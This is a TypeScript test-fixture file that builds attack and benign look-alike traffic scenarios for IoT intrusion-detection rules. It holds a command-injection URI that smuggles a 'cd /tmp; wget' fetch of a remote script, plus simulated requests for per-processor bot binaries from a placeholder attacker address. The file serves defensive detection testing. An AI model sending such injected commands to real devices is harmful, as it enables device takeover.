import { aFlow, DEVICE_IP, hostOf } from '@/lib/testing/some-flows'
import { anAlert, aRequest, aTransfer } from '@/lib/testing/some-records'
import type { Scenario, Story } from './scenario'

const ATTACKER = '198.51.100.4'
const SCANNER = '192.168.1.66'
const BUCKET = 'firmware.example.com'

/** Requests to the device. */
const inbound = { to: DEVICE_IP, port: 80 } as const

const times = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i))

const COMMAND = '/cgi-bin/page?host=1;cd%20/tmp;wget%20http://203.0.113.50/b.sh'

/** What the security team's scanner does to a device that is in order. */
const onlyTouched: Story = {
  says: 'the scanner of the security team asks the same, and the device answers and does nothing',
  records: [
    ...times(6, (i) => aRequest({ ...inbound, after: i, from: SCANNER, uri: COMMAND, status: 404 })),
    anAlert({ ...inbound, after: 7, from: SCANNER, category: 'web application attack' }),
    ...times(6, (i) => aRequest({ after: 30 + i * 60 })),
  ],
}

export const WEB_SCENARIOS: readonly Scenario[] = [
  {
    ruleId: 'payload-download',
    attack: {
      says: 'a loader fetches one program for each processor from a bare address; the files are seen too',
      records: times(4, (i) => i).flatMap((i) => [
        aRequest({
          after: i * 3,
          to: ATTACKER,
          host: ATTACKER,
          uri: `/bins/bot.${['arm', 'arm7', 'mips', 'mpsl'][i] ?? 'arm'}`,
          userAgent: 'Wget/1.21',
          responseType: 'application/octet-stream',
        }),
        aTransfer({ after: i * 3 + 1, to: ATTACKER, type: 'application/x-executable' }),
      ]),
    },
    lookAlike: {
      says: 'the firmware comes by Wget from a bucket',
      records: times(19, (i) =>
        aRequest({
          after: i * 9,
          host: BUCKET,
          uri: `/v${String(i)}/image.bin`,
          userAgent: 'Wget/1.12',
          responseType: '',
        }),
      ),
    },
  },
  {
    ruleId: 'fetching-tool',
    attack: {
      says: 'somebody fetches with BusyBox what the device never fetched',
      records: [
        ...times(5, (i) => aRequest({ after: i * 60 })),
        aRequest({ after: 400, to: ATTACKER, host: ATTACKER, uri: '/get', userAgent: 'Wget', responseType: '' }),
      ],
    },
    lookAlike: {
      says: 'the firmware comes by Wget from a bucket',
      records: times(19, (i) =>
        aRequest({ after: i * 9, host: BUCKET, uri: '/image.bin', userAgent: 'Wget/1.12', responseType: '' }),
      ),
    },
  },
  {
    ruleId: 'injected-command-sent',
    attack: {
      says: 'it asks a camera of the neighbours to fetch and run a script',
      records: [aRequest({ to: hostOf(4), host: hostOf(4), uri: COMMAND, status: null })],
    },
    lookAlike: {
      says: 'its own cloud is asked with separators, brackets and encoded words',
      records: [
        aRequest({ uri: '/v1/query?fields=name|id|type;sort=up&filter=(a;b)&q=cat%20food%26wget' }),
        aRequest({ after: 5, uri: '/css?family=Open+Sans:400|Roboto&text=it%27s%20or%20not' }),
        aRequest({ after: 9, uri: '/..%2f/up', userAgent: 'Mozilla/5.0 (X11; Linux armv7l; rv:45.0) like $1' }),
      ],
    },
  },
  {
    ruleId: 'injected-command-received',
    attack: {
      says: 'somebody tries to make it fetch a script',
      records: [aRequest({ ...inbound, from: ATTACKER, uri: COMMAND, status: 404 })],
    },
    lookAlike: {
      says: 'a person sets it up in the browser',
      records: times(20, (i) =>
        aRequest({
          ...inbound,
          after: i,
          from: SCANNER,
          uri: `/set?name=Tom%27s%20camera;room=2&tz=UTC+1&i=${String(i)}`,
        }),
      ),
    },
  },
  {
    ruleId: 'exploit-answered',
    attack: {
      says: 'it is asked to fetch a script and goes to fetch it',
      records: [
        aRequest({ after: 60, from: ATTACKER, ...inbound, uri: COMMAND, status: 200 }),
        aFlow({ after: 62, to: '203.0.113.50', port: 80, service: 'http' }),
      ],
    },
    lookAlike: onlyTouched,
  },
  {
    ruleId: 'web-guessing',
    attack: {
      says: 'it tries thirty passwords on the page of a neighbour',
      records: times(30, (i) => aRequest({ after: i * 4, to: '192.168.1.77', host: '192.168.1.77', status: 401 })),
    },
    lookAlike: {
      says: 'a recorder is asked for its password before each picture of a camera',
      records: times(120, (i) =>
        aRequest({ after: i * 4, to: '192.168.1.77', host: '192.168.1.77', status: i % 2 === 0 ? 401 : 200 }),
      ),
    },
  },
  {
    ruleId: 'same-path',
    attack: {
      says: 'it looks for one page at twelve names',
      records: times(12, (i) =>
        aRequest({
          after: i * 30,
          to: hostOf(i),
          host: `panel${String(i)}.example.net`,
          uri: `/gate.php?n=${String(i)}`,
        }),
      ),
    },
    lookAlike: {
      says: 'a browser opens the front pages and icons of forty sites',
      records: times(40, (i) => i).flatMap((i) =>
        ['/', '/favicon.ico', '/.well-known/security.txt', `/article-${String(i)}`].map((uri, n) =>
          aRequest({ after: i * 30 + n, to: hostOf(i), host: `site${String(i)}.example.org`, uri }),
        ),
      ),
    },
  },
  {
    ruleId: 'bare-web-requests',
    attack: {
      says: 'among its named servers, it asks one by its bare address each minute',
      records: times(30, (i) => i).flatMap((i) => [
        aRequest({ after: i * 60 }),
        aRequest({ after: i * 60 + 9, to: ATTACKER, host: ATTACKER, uri: '/task', port: 8_080 }),
      ]),
    },
    lookAlike: {
      says: 'it asks the hub of the house by address',
      records: times(30, (i) => i).flatMap((i) => [
        aRequest({ after: i * 60 }),
        aRequest({ after: i * 60 + 9, to: '192.168.1.9', host: '192.168.1.9', uri: '/api/state' }),
      ]),
    },
  },
]
